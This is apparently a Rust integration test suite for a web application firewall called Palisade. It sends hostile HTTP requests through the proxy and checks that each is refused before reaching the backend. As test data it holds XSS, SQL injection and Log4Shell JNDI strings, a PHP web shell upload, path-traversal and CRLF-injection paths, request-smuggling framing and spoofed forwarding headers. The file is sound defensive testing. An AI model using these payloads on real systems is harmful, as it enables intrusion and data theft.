//! Hardening against hostile clients, through the real binary in front of a real backend:
//! what Palisade routes and inspects is exactly what the backend receives, and what has no
//! single reading is refused before any stage (issue 13). Every case is one of a class:
//! framing, paths, hosts, JSON, multipart, uninspected places, slow clients, sizes, statuses,
//! identity headers, admin, config loading.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use std::io::Write as _;
use std::time::{Duration, Instant};

use palisade_tests::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Routes: `/admin` denied, host `admin.example.com` denied, `/raw` forwards the original
/// path, everything else under the managed rule sets.
fn config(backend: &Backend, extra: &str) -> String {
    format!(
        r#"logging: {{level: info}}
http:
  head_timeout: 1s
  body_timeout: 1s
{extra}
body:
  oversize: continue
rulesets: [builtin:managed]
upstreams:
  app: {{targets: ["{}"]}}
routes:
  - name: admin
    path_prefix: /admin
    upstream: app
    policy: {{deny: {{}}}}
  - name: admin-host
    host: admin.example.com
    upstream: app
    policy: {{deny: {{}}}}
  - name: raw
    path_prefix: /raw
    upstream: app
    policy: {{forward_path: original}}
  - name: plain
    path_prefix: /plain
    upstream: app
  - name: xss-only
    path_prefix: /xss-only
    upstream: app
    policy:
      rulesets: [{{name: xss}}]
  - name: api
    upstream: app
    policy:
      rulesets: [{{name: core}}, {{name: sqli}}, {{name: xss}}, {{name: lfi-rfi}}, {{name: rce}}, {{name: injection}}, {{name: known-bad-inputs}}]
"#,
        backend.addr
    )
}

/// Sends raw bytes, with a browser-like `User-Agent` added to the head (the managed core set
/// blocks requests without one).
async fn send(p: &Palisade, raw: &[u8]) -> RawResponse {
    let mut bytes = raw.to_vec();
    let has_ua = raw
        .windows(11)
        .any(|w| w.eq_ignore_ascii_case(b"user-agent:"));
    if let (false, Some(i)) = (has_ua, raw.windows(2).position(|w| w == b"\r\n")) {
        bytes.splice(
            i + 2..i + 2,
            b"User-Agent: Mozilla/5.0 (hardening test)\r\n"
                .iter()
                .copied(),
        );
    }
    raw_request(p.addr, &bytes)
        .await
        .unwrap_or_else(|| panic!("no answer to {}", String::from_utf8_lossy(raw)))
}

/// Asserts a refusal or block: status, JSON body, no `Server: Pingora`, and that the backend
/// saw nothing.
fn refused(r: &RawResponse, backend: &Backend, before: usize, status: u16, what: &str) {
    assert_eq!(r.status, status, "{what}: {}", r.body_string());
    assert!(r.json()["error"].is_string(), "{what}: {}", r.body_string());
    assert!(r.header("server").is_none(), "{what}: {:?}", r.headers);
    assert_eq!(backend.count(), before, "{what}: reached the backend");
}

#[tokio::test]
async fn framing_is_read_one_way_or_refused() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    let attack = b"q=<script>alert(1)</script>";
    for (what, head) in [
        ("a list of equal lengths", "Content-Length: 27, 27\r\n"),
        (
            "two Content-Length fields",
            "Content-Length: 27\r\nContent-Length: 27\r\n",
        ),
        ("a signed length", "Content-Length: +27\r\n"),
    ] {
        let before = backend.count();
        let req = format!(
            "POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\n{head}\r\n"
        );
        let mut bytes = req.into_bytes();
        bytes.extend_from_slice(attack);
        let r = send(&p, &bytes).await;
        refused(&r, &backend, before, 400, what);
    }
    // A Transfer-Encoding other than one `chunked`.
    let before = backend.count();
    let r = send(
        &p,
        b"POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    )
    .await;
    refused(&r, &backend, before, 501, "gzip, chunked");

    // `CHUNKED` is the chunked coding: read, inspected and blocked like any other body.
    let before = backend.count();
    let mut req = b"POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: CHUNKED\r\n\r\n".to_vec();
    req.extend_from_slice(&chunked(attack, 5));
    let r = send(&p, &req).await;
    refused(&r, &backend, before, 403, "CHUNKED with an attack");
    let before = backend.count();
    let mut req = b"POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: Chunked\r\n\r\n".to_vec();
    req.extend_from_slice(&chunked(b"q=hello", 3));
    let r = send(&p, &req).await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    assert_eq!(backend.count(), before + 1);
    assert_eq!(&backend.seen().last().unwrap().body[..], b"q=hello");

    // Malformed chunk sizes are the client's error: 400 with our JSON, never a 500.
    for bad in ["zz\r\nhello\r\n0\r\n\r\n", "-5\r\nhello\r\n0\r\n\r\n"] {
        let before = backend.count();
        let req = format!(
            "POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n{bad}"
        );
        let r = send(&p, req.as_bytes()).await;
        refused(&r, &backend, before, 400, bad);
    }

    // A chunked body over the 64 KiB replay buffer under `oversize: continue`: forwarded
    // whole, byte for byte (its first 8 KiB inspected).
    let body = pattern_body(200 * 1024);
    let before = backend.count();
    let mut req = b"POST /plain/upload HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    req.extend_from_slice(&chunked(&body, 16 * 1024));
    let r = send(&p, &req).await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    assert_eq!(backend.count(), before + 1);
    assert_eq!(backend.seen().last().unwrap().body.len(), body.len());
    assert!(backend.seen().last().unwrap().body[..] == body[..]);
}

#[tokio::test]
async fn every_spelling_of_a_path_routes_as_the_backend_reads_it() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    for path in [
        "/admin",
        "/%61dmin",
        "/admin%2fusers",
        "//admin",
        "/./admin",
        "/x/../admin",
        "/admin;x",
        "/..;/admin",
        "/api/..;/admin",
        "/%2e%2e/admin",
        "/x/%2E%2E/admin/users",
        "/x\\..\\admin",
        "/x%5c..%5cadmin",
    ] {
        let before = backend.count();
        let r = send(
            &p,
            format!("GET {path} HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n").as_bytes(),
        )
        .await;
        refused(&r, &backend, before, 403, path);
        assert_eq!(r.json()["error"], "route_denied", "{path}");
    }
    for path in [
        "/a%zz",
        "/%c0%afadmin",
        "/a%00b",
        "/x%0d%0aSet-Cookie:%20a=b",
    ] {
        let before = backend.count();
        let r = send(
            &p,
            format!("GET {path} HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n").as_bytes(),
        )
        .await;
        refused(&r, &backend, before, 400, path);
        assert_eq!(r.json()["error"], "bad_path", "{path}");
    }
    // The backend receives the normalized path that was routed and inspected...
    let r = send(
        &p,
        b"GET /plain/v1/./x/../users//%61lice;jsessionid=1?q=1 HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    assert_eq!(
        backend.seen().last().unwrap().uri,
        "/plain/v1/users/alice?q=1"
    );
    // ... or, on a route that forwards the original, exactly what the client sent.
    let r = send(
        &p,
        b"GET /raw/a;v=1/%7Eb?x=%41 HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    assert_eq!(backend.seen().last().unwrap().uri, "/raw/a;v=1/%7Eb?x=%41");
    // Traversal in the path is still seen by the rules (on the raw path).
    let before = backend.count();
    let r = send(
        &p,
        b"GET /api/files/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n",
    )
    .await;
    refused(&r, &backend, before, 403, "traversal");
}

#[tokio::test]
async fn one_host_per_request() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    for (what, req, status) in [
        (
            "absolute form without Host",
            "GET http://admin.example.com/ HTTP/1.1\r\nConnection: close\r\n\r\n",
            403,
        ),
        (
            "trailing dot",
            "GET / HTTP/1.1\r\nHost: admin.example.com.\r\nConnection: close\r\n\r\n",
            403,
        ),
        (
            "upper case and port",
            "GET / HTTP/1.1\r\nHost: ADMIN.Example.COM:8080\r\nConnection: close\r\n\r\n",
            403,
        ),
        (
            "absolute form naming another host than Host",
            "GET http://admin.example.com/ HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n",
            400,
        ),
        ("no Host", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n", 400),
        (
            "two Host fields",
            "GET / HTTP/1.1\r\nHost: a.example.com\r\nHost: admin.example.com\r\nConnection: close\r\n\r\n",
            400,
        ),
        (
            "userinfo",
            "GET / HTTP/1.1\r\nHost: x@admin.example.com\r\nConnection: close\r\n\r\n",
            400,
        ),
    ] {
        let before = backend.count();
        let r = send(&p, req.as_bytes()).await;
        refused(&r, &backend, before, status, what);
    }
    // An absolute-form request that passes reaches the backend in origin form with its host.
    let r = send(
        &p,
        b"GET http://WWW.example.com./api/x HTTP/1.1\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    let seen = backend.seen().last().unwrap().clone();
    assert_eq!(seen.uri, "/api/x");
    assert_eq!(seen.header("host"), Some("www.example.com"));
    assert_eq!(seen.header("x-forwarded-host"), Some("www.example.com"));
}

#[tokio::test]
async fn bodies_are_inspected_as_the_backend_parses_them() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    let post = |ct: &str, body: &[u8]| {
        http1_request(
            "POST",
            "/api/x",
            "t",
            &[("Content-Type".into(), ct.into())],
            body,
        )
    };
    // JSON deeper than the inspection depth: refused for inspection and validation alike.
    let deep = format!("{}\"x\"{}", "[".repeat(100), "]".repeat(100));
    let before = backend.count();
    let r = send(&p, &post("application/json", deep.as_bytes())).await;
    refused(&r, &backend, before, 400, "deep JSON");
    assert_eq!(r.json()["error"], "json_too_deep");
    // A repeated key: every occurrence is inspected, whichever one the backend keeps.
    for body in [
        r#"{"q":"<script>alert(1)</script>","q":"ok"}"#,
        r#"{"q":"ok","q":"<script>alert(1)</script>"}"#,
    ] {
        let before = backend.count();
        let r = send(&p, &post("application/json", body.as_bytes())).await;
        refused(&r, &backend, before, 403, body);
    }
    // Multipart: ambiguous forms refused, file names and text file contents inspected.
    let part = |cd: &str, content: &str| {
        format!("--B\r\nContent-Disposition: {cd}\r\n\r\n{content}\r\n--B--\r\n")
    };
    for (what, ct, body, status) in [
        (
            "two boundaries",
            "multipart/form-data; boundary=B; boundary=C",
            part("form-data; name=\"q\"", "x"),
            400,
        ),
        (
            "a repeated parameter",
            "multipart/form-data; boundary=B",
            part("form-data; name=\"q\"; name=\"r\"", "x"),
            400,
        ),
        (
            "filename*",
            "multipart/form-data; boundary=B",
            part("form-data; name=\"f\"; filename*=UTF-8''x.txt", "x"),
            400,
        ),
        (
            "a traversal file name",
            "multipart/form-data; boundary=B",
            part(
                "form-data; name=\"f\"; filename=\"../../etc/cron.d/x\"",
                "* * * * * true",
            ),
            403,
        ),
        (
            "a script in a text file",
            "multipart/form-data; boundary=B",
            part(
                "form-data; name=\"f\"; filename=\"a.php\"",
                "<?php system($_GET['c']); ?>",
            ),
            403,
        ),
        (
            "a field that only looks like a file to a lenient parser",
            "multipart/form-data; boundary=B",
            part(
                "form-data; name=\"q\"; x=\"y filename=z\"",
                "<script>alert(1)</script>",
            ),
            403,
        ),
    ] {
        let before = backend.count();
        let r = send(&p, &post(ct, body.as_bytes())).await;
        refused(&r, &backend, before, status, what);
    }
    // Charsets that hide ASCII syntax are refused; compressed bodies are refused by default.
    let before = backend.count();
    let r = send(&p, &post("application/json; charset=utf-7", b"{\"a\":1}")).await;
    refused(&r, &backend, before, 415, "utf-7");
    let mut gz = flate2_gzip(br#"{"q":"<script>alert(1)</script>"}"#);
    let mut req = format!(
        "POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        gz.len()
    )
    .into_bytes();
    req.append(&mut gz);
    let before = backend.count();
    let r = send(&p, &req).await;
    refused(&r, &backend, before, 415, "gzip by default");
}

/// A gzip member of `data` (stored blocks: no compressor needed in the tests).
fn flate2_gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    // One final stored deflate block.
    out.push(1);
    let len = data.len() as u16;
    out.extend_from_slice(&len.to_le_bytes());
    out.extend_from_slice(&(!len).to_le_bytes());
    out.extend_from_slice(data);
    out.extend_from_slice(&crc32(data).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

#[tokio::test]
async fn compressed_bodies_are_inflated_for_inspection_when_allowed() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "  content_encoding: decode")).await;
    let send_gz = |json: &[u8]| {
        let gz = flate2_gzip(json);
        let mut req = format!(
            "POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
            gz.len()
        )
        .into_bytes();
        req.extend_from_slice(&gz);
        (req, gz)
    };
    let (req, _) = send_gz(br#"{"q":"<script>alert(1)</script>"}"#);
    let before = backend.count();
    let r = send(&p, &req).await;
    refused(&r, &backend, before, 403, "gzip attack");
    let (req, gz) = send_gz(br#"{"q":"hello"}"#);
    let r = send(&p, &req).await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    assert_eq!(&backend.seen().last().unwrap().body[..], &gz[..]);
    let before = backend.count();
    let mut bad = b"POST /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: 5\r\n\r\nhello".to_vec();
    let r = send(&p, &bad).await;
    refused(&r, &backend, before, 400, "not gzip");
    bad.clear();
}

#[tokio::test]
async fn headers_and_cookie_names_are_inspected() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    for (what, header) in [
        ("cookie name", "Cookie: <script>alert(1)</script>=1"),
        (
            "accept-language",
            "Accept-Language: en' UNION SELECT password FROM users--",
        ),
        ("origin", "Origin: javascript:alert(document.cookie)//"),
        (
            "authorization",
            "Authorization: Bearer ${jndi:ldap://x.example/a}",
        ),
        (
            "referer",
            "Referer: https://x.example/?q=<script>alert(1)</script>",
        ),
    ] {
        let before = backend.count();
        let r = send(
            &p,
            format!("GET /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\n{header}\r\n\r\n")
                .as_bytes(),
        )
        .await;
        refused(&r, &backend, before, 403, what);
    }
    // Real values of the same headers pass.
    let r = send(
        &p,
        b"GET /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nAccept-Language: en-US,en;q=0.9\r\nOrigin: https://app.example.com\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln\r\nReferer: https://app.example.com/search?q=shoes\r\nCookie: session=abc; theme=dark\r\n\r\n",
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_string());
}

#[tokio::test]
async fn identity_headers_only_from_trusted_proxies() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    let spoofed = [
        "Forwarded: for=1.2.3.4;host=evil.example",
        "True-Client-IP: 1.2.3.4",
        "CF-Connecting-IP: 1.2.3.4",
        "X-Client-IP: 1.2.3.4",
        "X-Forwarded-Proto: https",
        "X-Forwarded-Host: evil.example",
        "X-Original-URL: /admin",
        "X-Rewrite-URL: /admin",
        "X-HTTP-Method-Override: DELETE",
        "X-Real-IP: 1.2.3.4",
    ];
    let r = send(
        &p,
        format!(
            "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n{}\r\n\r\n",
            spoofed.join("\r\n")
        )
        .as_bytes(),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    let seen = backend.seen().last().unwrap().clone();
    for name in [
        "forwarded",
        "true-client-ip",
        "cf-connecting-ip",
        "x-client-ip",
        "x-original-url",
        "x-rewrite-url",
        "x-http-method-override",
    ] {
        assert_eq!(seen.header(name), None, "{name} reached the backend");
    }
    assert_eq!(seen.header("x-forwarded-proto"), Some("http"));
    assert_eq!(seen.header("x-forwarded-host"), Some("api.example.com"));
    assert_eq!(seen.header("x-real-ip"), Some("127.0.0.1"));
    assert_eq!(seen.header("x-forwarded-for"), Some("127.0.0.1"));
}

#[tokio::test]
async fn slow_and_oversized_clients_get_4xx_in_time() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    // A head dripped a byte at a time: 408 at the head deadline (1 s here), not minutes later.
    let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let started = Instant::now();
    let drip = b"GET /api/x HTTP/1.1\r\nHost: t\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    let mut answer = Vec::new();
    for b in drip {
        if s.write_all(&[*b]).await.is_err() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        if started.elapsed() > Duration::from_secs(2) {
            break;
        }
    }
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut answer)).await;
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 408 "), "{text}");
    assert!(text.contains("\"error\":\"client_timeout\""), "{text}");
    assert!(started.elapsed() < Duration::from_secs(4));

    // A body that stalls: 408 at the body deadline, and the backend never sees it.
    let before = backend.count();
    let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    s.write_all(b"POST /api/x HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"a\":")
        .await
        .unwrap();
    let started = Instant::now();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut answer)).await;
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 408 "), "{text}");
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(backend.count(), before);

    // A 1 MB header, too many headers, one header over the per-field limit: 431.
    let before = backend.count();
    let big = format!(
        "GET /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nX-Big: {}\r\n\r\n",
        "a".repeat(1024 * 1024)
    );
    let r = send(&p, big.as_bytes()).await;
    refused(&r, &backend, before, 431, "1 MB header");
    let mut many = String::from("GET /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\n");
    for i in 0..150 {
        many.push_str(&format!("X-H{i}: v\r\n"));
    }
    many.push_str("\r\n");
    let r = send(&p, many.as_bytes()).await;
    refused(&r, &backend, before, 431, "150 headers");
    let one = format!(
        "GET /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\nX-Big: {}\r\n\r\n",
        "a".repeat(9000)
    );
    let r = send(&p, one.as_bytes()).await;
    refused(&r, &backend, before, 431, "9000-byte header");

    // What pingora itself refuses comes back as our JSON, without `Server: Pingora`.
    let r = send(&p, b"GARBAGE\r\n\r\n").await;
    refused(&r, &backend, before, 400, "garbage request line");
    let r = send(
        &p,
        b"CONNECT x.example:443 HTTP/1.1\r\nHost: x.example:443\r\n\r\n",
    )
    .await;
    refused(&r, &backend, before, 405, "CONNECT");
}

#[tokio::test]
async fn connections_per_client_are_limited() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&format!(
        "client_ip:\n  trusted_proxies: [\"127.0.0.4/32\"]\n{}",
        config(&backend, "  max_connections_per_ip: 5")
    ))
    .await;
    // From an address of its own (all of 127/8 is loopback), so no other connection counts.
    let connect = || async {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind("127.0.0.3:0".parse().unwrap()).unwrap();
        socket.connect(p.addr).await.unwrap()
    };
    let mut open = Vec::new();
    for _ in 0..5 {
        let mut s = connect().await;
        s.write_all(b"GET /api/x HTTP/1.1\r\n").await.unwrap();
        open.push(s);
    }
    // The sixth (once the five are surely accepted) is closed at once, without a byte.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut s = connect().await;
    let _ = s
        .write_all(b"GET /api/x HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
        .await;
    let mut buf = Vec::new();
    let n = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut buf))
        .await
        .expect("the sixth connection is closed")
        .unwrap_or(0);
    assert_eq!(n, 0, "{}\n{}", String::from_utf8_lossy(&buf), p.log());
    // Another address still gets in; once the first ones close, this one does too.
    let r = get_from(
        "127.0.0.2",
        p.addr,
        "/api/x",
        &["User-Agent: Mozilla/5.0 (test)"],
    )
    .await;
    assert_eq!(r.status, 200);
    // A trusted proxy (a load balancer in front) is not limited.
    let mut lb = Vec::new();
    for _ in 0..8 {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind("127.0.0.4:0".parse().unwrap()).unwrap();
        let mut s = socket.connect(p.addr).await.unwrap();
        s.write_all(b"GET /api/x HTTP/1.1\r\n").await.unwrap();
        lb.push(s);
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let r = get_from(
        "127.0.0.4",
        p.addr,
        "/api/x",
        &["User-Agent: Mozilla/5.0 (test)"],
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_string());
    drop(lb);
    drop(open);
    let ok = eventually(Duration::from_secs(5), || async {
        raw_request_from(
            "127.0.0.3".parse().unwrap(),
            p.addr,
            b"GET /api/x HTTP/1.1\r\nHost: t\r\nUser-Agent: Mozilla/5.0 (t)\r\nConnection: close\r\n\r\n",
        )
        .await
        .is_some_and(|r| r.status == 200)
    })
    .await;
    assert!(ok);
}

#[tokio::test]
async fn admin_reads_only_with_get_and_check_does_not_leak_or_hang() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    for (method, path) in [
        ("POST", "/metrics"),
        ("DELETE", "/config"),
        ("PUT", "/healthz"),
    ] {
        let r = raw_request(
            p.admin,
            format!("{method} {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
                .as_bytes(),
        )
        .await
        .unwrap();
        assert_eq!(r.status, 405, "{method} {path}");
    }
    let r = raw_get(p.admin, "/healthz").await.unwrap();
    assert_eq!(r.status, 200);

    // `palisade check` on an IP list that is not one: names lines, never prints them.
    let dir = tempfile::tempdir().unwrap();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "root:$6$abcdefgh$SECRETHASH:19000:0:99999:7:::\n").unwrap();
    let fifo = dir.path().join("fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    for (list, must) in [(&secret, "secret:1"), (&fifo, "not a regular file")] {
        let cfg = dir.path().join("c.yaml");
        let mut f = std::fs::File::create(&cfg).unwrap();
        writeln!(
            f,
            "listeners: [{{address: \"127.0.0.1:1\"}}]\nip_sets:\n  x: {{file: \"{}\"}}\nupstreams:\n  a: {{targets: [\"127.0.0.1:1\"]}}\nroutes:\n  - {{name: r, upstream: a, policy: {{ip: {{deny: [x]}}}}}}",
            list.display()
        )
        .unwrap();
        let started = Instant::now();
        let (code, out, err) = run_cli(&["check", "--config", cfg.to_str().unwrap()]);
        let all = format!("{out}{err}");
        assert_ne!(code, 0, "{all}");
        assert!(all.contains(must), "{all}");
        assert!(!all.contains("SECRETHASH"), "{all}");
        assert!(started.elapsed() < Duration::from_secs(10));
    }
}

/// A request body without a length (HTTP/2 frames it itself).
struct Unsized(Option<bytes::Bytes>);

impl hyper::body::Body for Unsized {
    type Data = bytes::Bytes;
    type Error = std::convert::Infallible;
    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        _: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<hyper::body::Frame<bytes::Bytes>, Self::Error>>> {
        std::task::Poll::Ready(self.0.take().map(|b| Ok(hyper::body::Frame::data(b))))
    }
}

#[tokio::test]
async fn http2_bodies_without_a_length_are_inspected() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&format!("h2c: true\n{}", config(&backend, ""))).await;
    let stream = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let (mut sender, conn) = hyper::client::conn::http2::handshake(
        hyper_util::rt::TokioExecutor::new(),
        hyper_util::rt::TokioIo::new(stream),
    )
    .await
    .unwrap();
    tokio::spawn(conn);
    for (body, status) in [
        (&b"q=<script>alert(1)</script>"[..], 403),
        (&b"q=hello"[..], 200),
    ] {
        let before = backend.count();
        let req = hyper::Request::post("http://t/api/x")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("user-agent", "Mozilla/5.0 (h2 test)")
            .body(Unsized(Some(bytes::Bytes::from_static(body))))
            .unwrap();
        assert!(req.headers().get("content-length").is_none());
        let resp = sender.send_request(req).await.unwrap();
        assert_eq!(resp.status().as_u16(), status);
        if status == 200 {
            assert_eq!(&backend.seen().last().unwrap().body[..], body);
        } else {
            assert_eq!(backend.count(), before);
        }
    }
}

#[tokio::test]
async fn expect_continue_bodies_are_read_and_inspected() {
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    for (body, status) in [
        (&b"q=<script>alert(1)</script>"[..], 403),
        (&b"q=hello"[..], 200),
    ] {
        let before = backend.count();
        let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
        s.write_all(
            format!(
                "POST /api/x HTTP/1.1\r\nHost: t\r\nUser-Agent: Mozilla/5.0 (t)\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nExpect: 100-continue\r\nContent-Length: {}\r\n\r\n",
                body.len()
            )
            .as_bytes(),
        )
        .await
        .unwrap();
        // The client waits for the interim answer before sending its body.
        let mut first = vec![0u8; 25];
        tokio::time::timeout(Duration::from_secs(5), s.read_exact(&mut first))
            .await
            .expect("a 100 Continue within 5 s")
            .unwrap();
        assert!(
            first.starts_with(b"HTTP/1.1 100 Continue"),
            "{}",
            String::from_utf8_lossy(&first)
        );
        s.write_all(body).await.unwrap();
        let mut rest = Vec::new();
        tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut rest))
            .await
            .unwrap()
            .unwrap();
        let text = String::from_utf8_lossy(&rest);
        assert!(text.contains(&format!(" {status} ")), "{text}");
        if status == 200 {
            assert_eq!(&backend.seen().last().unwrap().body[..], body);
            assert!(backend.seen().last().unwrap().header("expect").is_none());
        } else {
            assert_eq!(backend.count(), before);
        }
    }
}

#[tokio::test]
async fn values_past_the_parsers_caps_are_still_inspected() {
    // A route whose only rule set is XSS (no size rule): what lies past the XML value cap and
    // the multipart part cap is inspected as text, not skipped.
    let backend = Backend::start("b").await;
    let p = Palisade::start(&config(&backend, "")).await;
    let mut xml = String::from("<r>");
    for _ in 0..5000 {
        xml.push_str("<a>x</a>");
    }
    xml.push_str("<b>&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script></b></r>");
    let mut parts = String::new();
    for i in 0..1100 {
        parts.push_str(&format!(
            "--B\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nv\r\n"
        ));
    }
    parts.push_str(
        "--B\r\nContent-Disposition: form-data; name=\"last\"\r\n\r\n<script>alert(1)</script>\r\n--B--\r\n",
    );
    for (what, ct, body) in [
        ("XML past 4096 values", "application/xml", xml),
        (
            "multipart past 1000 parts",
            "multipart/form-data; boundary=B",
            parts,
        ),
    ] {
        assert!(body.len() < 64 * 1024, "{what}: {} bytes", body.len());
        let before = backend.count();
        let req = http1_request(
            "POST",
            "/xss-only/x",
            "t",
            &[("Content-Type".into(), ct.into())],
            body.as_bytes(),
        );
        let r = send(&p, &req).await;
        refused(&r, &backend, before, 403, what);
    }
}
